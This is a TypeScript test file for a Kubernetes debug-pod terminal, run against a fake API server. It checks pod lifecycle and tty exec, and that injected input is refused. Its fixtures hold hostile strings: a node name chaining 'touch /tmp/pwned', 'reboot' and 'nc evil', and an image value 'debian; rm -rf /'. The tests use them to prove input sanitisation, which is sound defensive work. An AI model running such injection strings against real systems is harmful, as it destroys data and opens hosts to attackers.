import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { execPath } from '../../../../core/node/collect/podExec';
import { ExecNotApprovedError } from '../../../../core/node/kube/execApproval';
import { openPodTerminal, PodTerminalInputError } from '../../../../core/node/terminal/podTerminal';
import type { PodTerminalOptions, PodTerminalSession } from '../../../../core/node/terminal/podTerminal';
import { POD_SHELL_ARGV } from '../../../../core/node/terminal/podTerminalSpec';
import { startFakeApiServer } from '../../../helpers/fakeApiServer/fakeApiServer';
import type { ExecLog, FakeApiServer } from '../../../helpers/fakeApiServer/fakeApiServer';
import { TTY_SHELL } from '../../../helpers/fakeApiServer/fakeExec';

// A node shell through a debug pod against the fixture API server: the pod is created pinned to
// the node, polled to Running, exec'd into with tty=true over the channel protocol (the fixture
// runs a real local /bin/sh for the exact allowlisted argv only), and deleted on every way out.

const MANAGED = 'app.kubernetes.io/managed-by=proxyscope';
const HOSTILE_NODE = 'w9; touch /tmp/pwned $(id) `reboot` | nc evil 1 && echo';

interface Captured {
  out: string;
  exits: (number | null)[];
}

function sink(): Captured & { data(s: string): void; exit(c: number | null): void } {
  const c: Captured & { data(s: string): void; exit(c: number | null): void } = {
    out: '',
    exits: [],
    data: (s) => (c.out += s),
    exit: (code) => c.exits.push(code),
  };
  return c;
}

describe('openPodTerminal against the fixture API server', () => {
  let work: string;
  let api: FakeApiServer;
  let kubeconfig: string;
  const sessions: PodTerminalSession[] = [];

  beforeAll(async () => {
    work = mkdtempSync(join(tmpdir(), 'proxyscope-podterm-'));
    api = await startFakeApiServer({ nodeHosts: { w1: { programs: {} }, [HOSTILE_NODE]: { programs: {} } }, namespaces: ['proxyscope', 'debug'] });
    kubeconfig = join(work, 'kubeconfig');
    writeFileSync(kubeconfig, api.kubeconfigFor('pod-term'), { mode: 0o600 });
  }, 60_000);

  afterEach(async () => {
    api.clearFaults();
    api.setNodeHost('w1', { programs: {} });
    await Promise.all(sessions.splice(0).map((s) => s.close()));
  });

  afterAll(async () => {
    await api?.close();
    if (work) rmSync(work, { recursive: true, force: true });
  });

  const options = (extra: Partial<PodTerminalOptions> = {}): PodTerminalOptions => ({ kubeconfig, context: 'pod-term', node: 'w1', cols: 80, rows: 24, pollMs: 10, podTimeoutSec: 10, ...extra });
  const lastExec = (): ExecLog => api.execs[api.execs.length - 1];
  const open = async (o: PodTerminalOptions, s: ReturnType<typeof sink>): Promise<PodTerminalSession> => {
    const session = await openPodTerminal(o, s);
    sessions.push(session);
    return session;
  };

  it('runs a shell on the node: typed commands run and their output comes back', async () => {
    const s = sink();
    const session = await open(options(), s);
    session.input('echo proxyscope-$((6*7))\n');
    await vi.waitFor(() => expect(s.out).toContain('proxyscope-42'), { timeout: 5000 });
    expect(lastExec()).toMatchObject({ tty: true, argv: TTY_SHELL, outcome: 'exit', protocol: 'v5.channel.k8s.io' });
    expect(lastExec().refusal).toBeUndefined();
    expect([...POD_SHELL_ARGV]).toEqual(TTY_SHELL);
  });

  it('asks for a tty with stdin and stdout, and no stderr stream', async () => {
    const q = new URL(`https://x${execPath({ namespace: 'ns', pod: 'p', container: 'proxyscope', argv: POD_SHELL_ARGV, tty: true })}`).searchParams;
    expect(Object.fromEntries([...q].filter(([k]) => k !== 'command'))).toEqual({ container: 'proxyscope', stdin: 'true', stdout: 'true', stderr: 'false', tty: 'true' });
    expect(q.getAll('command')).toEqual(TTY_SHELL);
    const session = await open(options(), sink());
    const exec = api.requests.filter((r) => r.path.endsWith('/exec')).at(-1);
    expect(exec?.path).toBe(`/api/v1/namespaces/proxyscope/pods/${session.pod}/exec`);
    expect(session.pod).toMatch(/^proxyscope-t[0-9a-f]{8}-0$/);
  });

  it('sends the size on connect and every resize on channel 4 as JSON', async () => {
    const session = await open(options({ cols: 100, rows: 30 }), sink());
    session.resize(132, 43);
    session.resize(0, 43); // refused locally: never sent
    await vi.waitFor(() => expect(lastExec().resizes).toEqual([
      { Width: 100, Height: 30 },
      { Width: 132, Height: 43 },
    ]), { timeout: 5000 });
  });

  it('reports the shell\'s exit status from the status channel and deletes the pod', async () => {
    const s = sink();
    const session = await open(options(), s);
    session.input('exit 3\n');
    await session.closed;
    expect(s.exits).toEqual([3]);
    expect(api.podEvents.filter((e) => e.name === session.pod).map((e) => e.verb)).toEqual(['create', 'delete']);
    expect(api.podsMatching(MANAGED)).toEqual([]);
  });

  it('deletes the pod when the user closes the terminal, and the shell is killed', async () => {
    const s = sink();
    const session = await open(options(), s);
    await session.close();
    expect(s.exits).toEqual([null]);
    expect(api.podEvents.filter((e) => e.name === session.pod).map((e) => e.verb)).toEqual(['create', 'delete']);
    await vi.waitFor(() => expect(lastExec().outcome).toBe('closed-by-client'));
  });

  it('creates the collector\'s pod: privileged, hostPID, hostNetwork, pinned to the node, labelled, in the chosen namespace and image', async () => {
    const session = await open(options({ namespace: 'debug', image: 'example.org/tools:1' }), sink());
    const sent = api.podEvents.find((e) => e.verb === 'create' && e.name === session.pod)?.sent as { metadata: { namespace: string; labels: Record<string, string> }; spec: Record<string, unknown> & { containers: Record<string, unknown>[] } };
    expect(session.namespace).toBe('debug');
    expect(sent.metadata.labels).toMatchObject({ 'app.kubernetes.io/managed-by': 'proxyscope' });
    expect(sent.spec).toMatchObject({ nodeName: 'w1', hostPID: true, hostNetwork: true, automountServiceAccountToken: false, tolerations: [{ operator: 'Exists' }] });
    expect(sent.spec.containers[0]).toMatchObject({ image: 'example.org/tools:1', securityContext: { privileged: true } });
  });

  it('fails with the pod\'s reason when it stays Pending, and deletes it', async () => {
    api.setNodeHost('w1', { programs: {}, podStuck: { reason: 'ImagePullBackOff', message: 'Back-off pulling image' } });
    const before = api.podEvents.length;
    await expect(openPodTerminal(options({ podTimeoutSec: 1 }), sink())).rejects.toThrow(/not running after 1 s.*ImagePullBackOff/);
    const mine = api.podEvents.slice(before);
    expect(mine.map((e) => e.verb)).toEqual(['create', 'delete']);
    expect(api.execs.filter((x) => x.pod === mine[0].name)).toEqual([]);
    expect(api.podsMatching(MANAGED)).toEqual([]);
  });

  it('names the RBAC verb and resource when pods/exec is forbidden, and deletes the pod', async () => {
    api.script(/\/exec$/, { kind: 'forbidden' });
    const before = api.podEvents.length;
    const err: Error | null = await openPodTerminal(options(), sink()).then(
      () => null,
      (e: unknown) => e as Error,
    );
    expect(err).toBeInstanceOf(Error);
    expect(err?.message).toMatch(/forbidden: may not create pods\/exec .* \(RBAC verb "create" on resource "pods\/exec"\)/);
    expect(api.podEvents.slice(before).map((e) => e.verb)).toEqual(['create', 'delete']);
  });

  it('stops the start-up on abort and deletes the pod', async () => {
    api.setNodeHost('w1', { programs: {}, pollsUntilRunning: 10_000 });
    const ac = new AbortController();
    const before = api.podEvents.length;
    const p = openPodTerminal(options({ signal: ac.signal }), sink());
    await vi.waitFor(() => expect(api.podEvents.length).toBeGreaterThan(before));
    ac.abort();
    await expect(p).rejects.toThrow(/cancelled/);
    expect(api.podEvents.slice(before).map((e) => e.verb)).toEqual(['create', 'delete']);
  });

  it('never puts the node name into the exec command: it is only the pod\'s spec.nodeName', async () => {
    const s = sink();
    const session = await open(options({ node: HOSTILE_NODE }), s);
    const sent = api.podEvents.find((e) => e.verb === 'create' && e.name === session.pod)?.sent as { spec: { nodeName: string; containers: { command: string[] }[] } };
    expect(sent.spec.nodeName).toBe(HOSTILE_NODE);
    expect(sent.spec.containers[0].command.join(' ')).not.toContain('pwned');
    expect(lastExec().argv).toEqual(TTY_SHELL);
    expect(lastExec().node).toBe(HOSTILE_NODE);
    for (const r of api.requests) expect(`${r.path}?${new URLSearchParams(r.query).toString()}`).not.toContain('pwned');
    session.input('echo ok-$((1+1))\n');
    await vi.waitFor(() => expect(s.out).toContain('ok-2'), { timeout: 5000 });
  });

  it.each([
    ['a node name with a control character', { node: 'w1\u001b[2J' }],
    ['an empty node name', { node: '' }],
    ['a namespace that is no DNS label', { namespace: 'Kube_System' }],
    ['an image with a space', { image: 'debian; rm -rf /' }],
    ['a zero size', { cols: 0 }],
  ])('refuses %s before any request', async (_what, extra) => {
    const before = api.requests.length;
    await expect(openPodTerminal(options(extra), sink())).rejects.toBeInstanceOf(PodTerminalInputError);
    expect(api.requests.length).toBe(before);
  });

  it('runs no unapproved exec credential plugin', async () => {
    const file = join(work, 'exec-kubeconfig');
    const marker = join(work, 'plugin-ran');
    writeFileSync(file, api.kubeconfigFor('with-exec', { userYaml: `    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: ["-c", "touch ${marker}"]` }), { mode: 0o600 });
    const before = api.requests.length;
    await expect(openPodTerminal(options({ kubeconfig: file, context: 'with-exec', approvalsPath: join(work, 'none.json') }), sink())).rejects.toBeInstanceOf(ExecNotApprovedError);
    expect(api.requests.length).toBe(before);
    expect(existsSync(marker)).toBe(false);
  });
});
